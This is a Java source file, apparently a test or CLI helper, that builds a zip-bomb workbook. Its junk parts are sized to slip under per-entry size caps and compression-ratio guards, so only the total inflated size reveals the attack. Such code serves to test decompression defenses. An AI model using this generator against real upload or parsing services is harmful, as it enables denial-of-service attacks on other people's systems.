package org.burdenshare.cli;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

/**
 * A zip bomb that passes the usual guards: a real workbook's parts, then junk parts each under the
 * per-entry size cap and compressed just under 1:100 (the ratio guard), so that only the total
 * inflated size gives it away. The junk is deflated once and its bytes written for every part, so
 * that a bomb of gigabytes is made in a second or two.
 */
final class ZipBomb {
  private ZipBomb() {}

  /** The bomb's bytes, and what it expands to. */
  record Bomb(byte[] bytes, long inflated, double ratio) {}

  static Bomb of(byte[] workbook, int junkParts, int junkBytes, long seed) throws IOException {
    List<Part> parts = new ArrayList<>();
    try (ZipInputStream in = new ZipInputStream(new java.io.ByteArrayInputStream(workbook))) {
      for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
        parts.add(Part.of(e.getName(), in.readAllBytes()));
      }
    }
    Part junk = Part.of("xl/media/junk0.bin", junk(junkBytes, seed));
    long inflated = parts.stream().mapToLong(Part::size).sum();
    for (int i = 0; i < junkParts; i++) {
      parts.add(junk.named("xl/media/junk" + i + ".bin"));
      inflated += junk.size();
    }
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    write(parts, out);
    return new Bomb(out.toByteArray(), inflated, (double) junk.deflated.length / junk.size());
  }

  /**
   * Bytes that deflate to about 1/96 of their size: runs of one letter with a random byte every 370
   * (each random byte a literal, each run a back-reference or two).
   */
  private static byte[] junk(int size, long seed) {
    Random random = new Random(seed);
    byte[] b = new byte[size];
    java.util.Arrays.fill(b, (byte) 'A');
    for (int i = 0; i < size; i += 370) {
      b[i] = (byte) random.nextInt(256);
    }
    return b;
  }

  private record Part(String name, long size, long crc, byte[] deflated) {
    static Part of(String name, byte[] content) {
      CRC32 crc = new CRC32();
      crc.update(content);
      Deflater d = new Deflater(Deflater.DEFAULT_COMPRESSION, true);
      d.setInput(content);
      d.finish();
      ByteArrayOutputStream out = new ByteArrayOutputStream(content.length / 50 + 64);
      byte[] buf = new byte[65_536];
      while (!d.finished()) {
        out.write(buf, 0, d.deflate(buf));
      }
      d.end();
      return new Part(name, content.length, crc.getValue(), out.toByteArray());
    }

    Part named(String other) {
      return new Part(other, size, crc, deflated);
    }
  }

  /** A zip written by hand (java.util.zip cannot add bytes already deflated). */
  private static void write(List<Part> parts, OutputStream out) throws IOException {
    ByteArrayOutputStream directory = new ByteArrayOutputStream();
    long offset = 0;
    for (Part p : parts) {
      byte[] name = p.name().getBytes(StandardCharsets.UTF_8);
      byte[] local = header(0x04034b50, p, name, -1);
      out.write(local);
      out.write(p.deflated());
      directory.write(header(0x02014b50, p, name, offset));
      offset += local.length + p.deflated().length;
    }
    byte[] dir = directory.toByteArray();
    out.write(dir);
    java.nio.ByteBuffer end =
        java.nio.ByteBuffer.allocate(22).order(java.nio.ByteOrder.LITTLE_ENDIAN);
    end.putInt(0x06054b50).putShort((short) 0).putShort((short) 0);
    end.putShort((short) parts.size()).putShort((short) parts.size());
    end.putInt(dir.length).putInt((int) offset).putShort((short) 0);
    out.write(end.array());
  }

  /** A local file header (offset -1) or a central directory entry. */
  private static byte[] header(int signature, Part p, byte[] name, long offset) {
    boolean central = offset >= 0;
    java.nio.ByteBuffer b =
        java.nio.ByteBuffer.allocate((central ? 46 : 30) + name.length)
            .order(java.nio.ByteOrder.LITTLE_ENDIAN);
    b.putInt(signature);
    if (central) {
      b.putShort((short) 20); // made by
    }
    b.putShort((short) 20).putShort((short) 0x0800).putShort((short) 8); // version, UTF-8, deflate
    b.putShort((short) 0).putShort((short) 0x21); // time, date (1980-01-01)
    b.putInt((int) p.crc()).putInt(p.deflated().length).putInt((int) p.size());
    b.putShort((short) name.length).putShort((short) 0);
    if (central) {
      b.putShort((short) 0).putShort((short) 0).putShort((short) 0).putInt(0);
      b.putInt((int) offset);
    }
    b.put(name);
    return b.array();
  }
}
